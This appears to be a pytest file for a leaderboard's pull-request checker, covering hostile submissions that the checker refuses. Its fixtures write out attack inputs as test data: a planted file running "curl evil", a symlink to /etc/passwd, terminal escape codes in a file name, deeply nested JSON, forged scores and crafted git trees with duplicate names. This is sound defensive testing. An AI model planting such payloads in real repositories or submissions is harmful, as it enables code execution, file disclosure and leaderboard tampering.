"""Submitting from outside: `check-pr` accepts an honest submission pull request and refuses
hostile ones; `export` writes the ranked entries as one parquet table.

Each pull request is a branch of a throw-away git repository holding a tiny board."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
import yaml

from harness import leaderboard as lb
from harness.leaderboard.__main__ import verify_files
from harness.leaderboard.check_pr import CheckPRError, check_pr
from harness.leaderboard.export import export
from harness.paths import REPO_ROOT
from harness.records import load_set
from tests.leaderboard.test_leaderboard import board, lb_cells, lb_sets  # noqa: F401  (fixtures)


def git(repo: Path, *args: str, stdin: str | None = None) -> str:
    return subprocess.run(["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.org", *args],
                          input=stdin, check=True, capture_output=True, text=True).stdout


@pytest.fixture
def repo(lb_sets, lb_cells, tmp_path):  # noqa: F811
    """A repository whose main branch holds a rendered board with one entry, `empty`; the
    working tree stays on main, the trusted base checkout."""
    root = tmp_path / "repo"
    cfg = lb.load_config(entries_dir=root / "leaderboard" / "entries", sets_dir=lb_sets)
    git(tmp_path, "init", "-q", "-b", "main", str(root))
    verify_files([lb.submit(lb_cells["baseline_empty"], "empty", "tests", cfg)], cfg, record=True)
    # A connection-weight table, as the maintainers commit one per set: the viewer shows it.
    (root / "leaderboard" / "connections").mkdir()
    pd.DataFrame([{"layer": n.layer, "neuron": n.neuron, "input_tokens": ["a"], "output_tokens": ["b"]}
                  for n in load_set(lb_sets / "tiny").neurons]).to_parquet(root / "leaderboard" / "connections" / "tiny.parquet")
    lb.render(cfg)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "base")
    return {"root": root, "cfg": cfg, "honest_cell": lb_cells["baseline_top_tokens"]}


def pull_request(repo, branch: str, change) -> str:
    """Commit `change(repo)` on a new branch from main, then return to main."""
    root = repo["root"]
    git(root, "checkout", "-q", "-b", branch, "main")
    change(repo)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", branch)
    git(root, "checkout", "-q", "main")
    return branch


def add_honest(repo, render: bool = True) -> None:
    lb.submit(repo["honest_cell"], "top-tokens", "a submitter", repo["cfg"])
    if render:
        lb.render(repo["cfg"])


def test_an_honest_submission_is_accepted(repo):
    result = check_pr("main", pull_request(repo, "honest", add_honest), repo["cfg"])
    assert result.ok, result.report()
    assert result.added == ["top-tokens"]
    # Without the rendered board it is still accepted, with a note to render after the merge.
    bare = check_pr("main", pull_request(repo, "bare", lambda r: add_honest(r, render=False)), repo["cfg"])
    assert bare.ok and any("render it after the merge" in n for n in bare.notes), bare.report()


def _entry(root: Path, name: str) -> Path:
    return root / "leaderboard" / "entries" / f"{name}.json"


def _edit(path: Path, mutate) -> None:
    data = json.loads(path.read_text())
    mutate(data)
    path.write_text(json.dumps(data))


def _endpoint(repo):
    root = repo["root"]
    add_honest(repo, render=False)
    _edit(_entry(root, "top-tokens"), lambda e: e["simulator"]["parameters"].update(base_url="http://127.0.0.1:9"))


def _forged(repo):
    root = repo["root"]
    add_honest(repo, render=False)
    _edit(_entry(root, "top-tokens"), lambda e: e["neurons"][0]["scores"].update(
        {"correlation.ev_correlation_score": 0.99}))


def _code(repo):
    root = repo["root"]
    add_honest(repo, render=False)
    (root / "harness").mkdir()
    (root / "harness" / "evil.py").write_text("import os; os.system('curl evil')\n")


def _changed_entry(repo):
    root = repo["root"]
    _edit(_entry(root, "empty"), lambda e: e.update(submitter="someone else"))


def _deleted_entry(repo):
    root = repo["root"]
    _entry(root, "empty").unlink()


def _record(repo):
    root = repo["root"]
    add_honest(repo, render=False)
    records = root / "leaderboard" / "verification.json"
    _edit(records, lambda r: r.update(empty={"status": "failed"}))


def _stale_board(repo):
    root = repo["root"]
    add_honest(repo, render=False)
    readme = root / "leaderboard" / "README.md"
    readme.write_text(readme.read_text() + "\n| 1 | me | 0.99 |\n")


def _backdated_copy(repo):
    root = repo["root"]
    source = json.loads(_entry(root, "empty").read_text())
    source.update(name="first", date="2023-01-02T00:00:00+00:00")
    _entry(root, "first").write_text(json.dumps(source))


def _symlink(repo):
    root = repo["root"]
    _entry(root, "link").symlink_to("/etc/passwd")


def _case_variant(repo):
    root = repo["root"]
    source = json.loads(_entry(root, "empty").read_text())
    source.update(name="EMPTY")
    _entry(root, "EMPTY").write_text(json.dumps(source))


def _unicode_variant(repo):
    data = repo["root"] / "leaderboard" / "data"
    (data / "caf\u00e9.json").write_text("{}")   # é composed (NFC)
    (data / "cafe\u0301.json").write_text("{}")  # e + a combining acute (NFD): the same name on macOS


def _escape_codes(repo):
    _entry(repo["root"], "\x1b]0;owned\x07\x1b[2J").write_text("{}")


def _deep_records(repo):
    add_honest(repo, render=False)
    records = repo["root"] / "leaderboard" / "verification.json"
    records.write_text(records.read_text().rstrip()[:-1] + ', "top-tokens": ' + "[" * 100_000 + "]" * 100_000 + "}")


def _float_for_int(repo):
    records = repo["root"] / "leaderboard" / "verification.json"
    _edit(records, lambda r: r["empty"].update(checked=float(r["empty"]["checked"])))


def _foreign_record(repo):
    records = repo["root"] / "leaderboard" / "verification.json"
    _edit(records, lambda r: r.update(later=r["empty"]))  # ready for an entry `later` to come


def _duplicate_key(repo):
    # Python keeps the last "empty" (the base's own record); another reader may keep the first.
    records = repo["root"] / "leaderboard" / "verification.json"
    records.write_text(records.read_text().replace("{", '{"empty": {"status": "verified"}, ', 1))


@pytest.mark.parametrize("change, match", [
    (_endpoint, r"top-tokens\.json: rejected: .*base_url"),
    (_forged, r"top-tokens\.json: failed"),
    (_code, r"harness/evil\.py: a submission changes only leaderboard/entries/"),
    (_changed_entry, r"empty\.json: an entry is never changed or deleted"),
    (_deleted_entry, r"empty\.json: an entry is never changed or deleted"),
    (_record, r"verification\.json: the record of 'empty' is changed"),
    (_stale_board, r"not what render gives with these entries .*README\.md"),
    (_backdated_copy, r"empty\.json would become a duplicate of a new entry"),
    (_symlink, r"link\.json is not a regular file"),
    (_case_variant, r"EMPTY\.json, leaderboard/entries/empty\.json: one name twice"),
    (_unicode_variant, r"leaderboard/data/caf.*\.json, leaderboard/data/caf.*\.json: one name twice"),
    (_escape_codes, r"\\x1b\]0;owned\\x07\\x1b\[2J\.json: not a valid entry name"),
    (_deep_records, r"verification\.json: .*nested too deeply"),
    (_float_for_int, r"verification\.json: the record of 'empty' is changed"),
    (_foreign_record, r"verification\.json: a record of 'later' is added, an entry this pull request does not add"),
    (_duplicate_key, r"verification\.json: .*the key 'empty' twice"),
])
def test_hostile_pull_requests_are_refused(repo, change, match):
    result = check_pr("main", pull_request(repo, "hostile", change), repo["cfg"])
    assert not result.ok
    # What the pull request named is shown escaped: its paths and reasons cannot drive the terminal.
    assert any(re.search(match, line) for line in result.report().splitlines()), result.report()
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", result.report())


def _with_tree_line(root: Path, rev: str, folder: str, line: str) -> str:
    """A commit on main whose tree is `rev`'s with `line` (an `ls-tree` line) added to `folder`: a
    tree no checkout can produce, such as one holding a name twice."""
    oid = git(root, "mktree", stdin=git(root, "ls-tree", f"{rev}:{folder}") + line + "\n").strip()
    parts = folder.split("/")
    for depth in range(len(parts) - 1, -1, -1):
        parent = "/".join(parts[:depth])
        listing = git(root, "ls-tree", f"{rev}:{parent}")
        listing = re.sub(rf"^(040000 tree )[0-9a-f]+(\t{re.escape(parts[depth])})$", rf"\g<1>{oid}\g<2>", listing,
                         flags=re.M)
        oid = git(root, "mktree", stdin=listing).strip()
    return git(root, "commit-tree", oid, "-p", "main", "-m", "a name twice").strip()


def test_a_tree_holding_an_entry_twice_is_refused(repo):
    """git reads the first `top-tokens.json` of the tree and a checkout may write the second: the
    pull request is refused before either is read."""
    root = repo["root"]
    pull_request(repo, "honest", add_honest)
    decoy = git(root, "hash-object", "-w", "--stdin", stdin='{"name": "top-tokens"}').strip()
    head = _with_tree_line(root, "honest", "leaderboard/entries", f"100644 blob {decoy}\ttop-tokens.json")
    assert git(root, "ls-tree", "--name-only", f"{head}:leaderboard/entries").count("top-tokens.json") == 2
    result = check_pr("main", head, repo["cfg"])
    assert not result.ok and result.added == []
    assert result.problems == ["leaderboard/entries/top-tokens.json, leaderboard/entries/top-tokens.json: one name "
                               "twice in the pull request's tree (or names equal apart from case or Unicode "
                               "normalization): a checkout would keep only one of them"]


def test_an_entry_the_base_gained_meanwhile_is_not_added_again(repo):
    """Against the merge base, a pull request adding `top-tokens` while the base gained its own
    `top-tokens` looked like an addition; against the base tip it is a change, and is refused."""
    root = repo["root"]
    stale = pull_request(repo, "stale", add_honest)
    lb.submit(repo["honest_cell"], "top-tokens", "the first submitter", repo["cfg"])
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "the base gains top-tokens")
    result = check_pr("main", stale, repo["cfg"])
    assert not result.ok and any("does not contain the base tip main: rebase it" in p for p in result.problems)
    # Brought up to date by a merge that keeps the submitter's file: a change of the base's entry.
    git(root, "checkout", "-q", stale)
    git(root, "merge", "-q", "-s", "ours", "main", "-m", "merge main")
    git(root, "checkout", "-q", "main")
    result = check_pr("main", stale, repo["cfg"])
    assert not result.ok
    assert any(re.search(r"top-tokens\.json: an entry is never changed", p) for p in result.problems), result.report()


def test_an_unknown_ref_is_one_typed_error(repo):
    with pytest.raises(CheckPRError, match=r"'no-such-branch' is not a commit of .*: fetch it first"):
        check_pr("main", "no-such-branch", repo["cfg"])


@pytest.mark.heavy
def test_check_pr_command_exit_codes(repo, lb_sets):  # noqa: F811
    pull_request(repo, "honest", add_honest)
    pull_request(repo, "hostile", _forged)
    pull_request(repo, "deep", _deep_records)
    pull_request(repo, "escapes", _escape_codes)

    def run(head):
        return subprocess.run([sys.executable, "-m", "harness.leaderboard", "--entries-dir",
                               str(repo["root"] / "leaderboard" / "entries"), "--sets-dir", str(lb_sets),
                               "check-pr", "main", "--head", head], cwd=REPO_ROOT, capture_output=True, text=True)
    ok = run("honest")
    assert ok.returncode == 0 and "ACCEPTED" in ok.stdout, ok.stdout + ok.stderr
    for head in ("hostile", "deep", "escapes"):  # refused in one report: no traceback, no raw escape code
        bad = run(head)
        assert bad.returncode == 1 and "REFUSED" in bad.stdout, bad.stdout + bad.stderr
        assert "Traceback" not in bad.stderr and "\x1b" not in bad.stdout + bad.stderr, bad.stdout + bad.stderr
    # The base checkout is untouched: check-pr reads the pull request from git, never checks it out.
    assert git(repo["root"], "status", "--porcelain") == ""
    assert not _entry(repo["root"], "top-tokens").exists()


def test_the_workflow_runs_the_base_code_on_the_pull_requests_data():
    """check-pr comes from the base's workflow (pull_request_target), so a pull request cannot edit
    it away; it runs the base checkout's code, holds no secret and no token, and every action is
    pinned by commit; a push to main re-verifies and re-renders the whole board."""
    text = (REPO_ROOT / ".github" / "workflows" / "leaderboard.yml").read_text()
    workflow = yaml.safe_load(text)
    triggers = workflow.get("on", workflow.get(True))  # YAML 1.1 reads the key `on` as true
    assert set(triggers) == {"pull_request_target", "push"} and triggers["push"]["branches"] == ["main"]
    assert workflow["permissions"] == {"contents": "read"}
    check, board = workflow["jobs"]["check-pr"], workflow["jobs"]["board"]
    checkout = check["steps"][0]
    assert checkout["with"]["ref"] == "${{ github.event.pull_request.base.sha }}"
    assert checkout["with"]["persist-credentials"] is False
    assert "secrets." not in yaml.safe_dump(check)
    runs = [step.get("run", "") for step in check["steps"]]
    assert any(r.startswith("make install") for r in runs)
    assert any("harness.leaderboard check-pr" in r for r in runs)
    # The pull request's files are never checked out: the base's is the only checkout.
    assert [step for step in check["steps"] if "actions/checkout" in step.get("uses", "")] == [checkout]
    assert not any(re.search(r"\bgit (checkout|switch|worktree|reset|restore)\b", r) for r in runs)
    board_runs = "\n".join(step.get("run", "") for step in board["steps"])
    assert "harness.leaderboard verify" in board_runs and "harness.leaderboard render --out" in board_runs
    assert "diff" in board_runs
    assert "${{" not in "\n".join(runs) + board_runs  # event data reaches scripts through env only
    uses = re.findall(r"uses:\s*(\S+)", text)
    assert uses and all(re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40}", u) for u in uses), uses


def test_export_writes_one_row_per_neuron_of_each_ranked_entry(board, tmp_path):  # noqa: F811
    cfg = board["cfg"]
    forged = json.loads(board["paths"]["top-tokens"].read_text())
    forged.update(name="forged")
    forged["neurons"][0]["scores"]["correlation.ev_correlation_score"] = 0.99
    forged["neurons"][0]["explanation"] += " (forged)"  # not a duplicate: a failed entry
    (cfg["entries_dir"] / "forged.json").write_text(json.dumps(forged))
    out, n = export(cfg, tmp_path / "export.parquet")
    table = pd.read_parquet(out)
    assert n == len(table)
    assert set(table["entry"]) == {"top-tokens", "empty"}  # the failed entry is not exported
    assert set(table["status"]) == {"verified"}
    entry = json.loads(board["paths"]["top-tokens"].read_text())
    assert (table["entry"] == "top-tokens").sum() == len(entry["neurons"])
    rows = table[table["entry"] == "top-tokens"].set_index("neuron_id")
    for neuron in entry["neurons"]:
        row = rows.loc[f"{neuron['layer']}/{neuron['neuron']}"]
        assert row["explanation"] == neuron["explanation"]
        for metric, value in neuron["scores"].items():
            assert row[metric] == pytest.approx(value, nan_ok=True) if value is not None else pd.isna(row[metric])
    assert {"floor.correlation.ev_correlation_score", "ceiling.correlation.ev_correlation_score"} <= set(table.columns)
    everything = pd.read_parquet(export(cfg, tmp_path / "all.parquet", include_unverified=True)[0])
    assert set(everything.loc[everything["entry"] == "forged", "status"]) == {"failed"}
